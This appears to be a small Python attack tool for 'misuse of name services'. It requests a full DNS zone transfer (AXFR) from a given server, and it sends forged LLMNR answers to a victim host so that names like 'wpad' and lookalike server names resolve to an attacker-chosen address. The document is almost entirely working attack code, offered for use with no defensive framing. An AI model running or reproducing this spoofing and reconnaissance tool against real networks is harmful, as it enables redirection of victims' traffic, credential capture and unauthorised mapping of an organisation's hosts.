"""Misuse of name services.

usage: names.py transfer SERVER ZONE        asks for the whole zone (RFC 5936)
       names.py poison VICTIM ADDRESS       answers a host by LLMNR (RFC 4795) for names that nobody has
"""
import socket
import struct
import sys

ANY_CLASS, A, AXFR = 1, 1, 252
LLMNR = 5355


def name(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"


def transfer(server, zone):
    query = struct.pack(">6H", 0x2A2A, 0, 1, 0, 0, 0) + name(zone) + struct.pack(">2H", AXFR, ANY_CLASS)
    with socket.create_connection((server, 53), timeout=2) as link:
        link.sendall(struct.pack(">H", len(query)) + query)
        try:
            print(link.recv(4096).hex())
        except OSError as refusal:
            print(refusal)


def poison(victim, address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.bind(("", LLMNR))
        for number, wanted in enumerate(("wpad", "fileserv", "printsrv", "intranetx", "sqlprodd", "backupp", "proxysrv", "shaerpoint")):
            question = name(wanted) + struct.pack(">2H", A, ANY_CLASS)
            answer = question + struct.pack(">IH", 30, 4) + socket.inet_aton(address)
            link.sendto(struct.pack(">6H", number, 0x8000, 1, 1, 0, 0) + question + answer, (victim, 50000 + number))


globals()[sys.argv[1]](*sys.argv[2:])
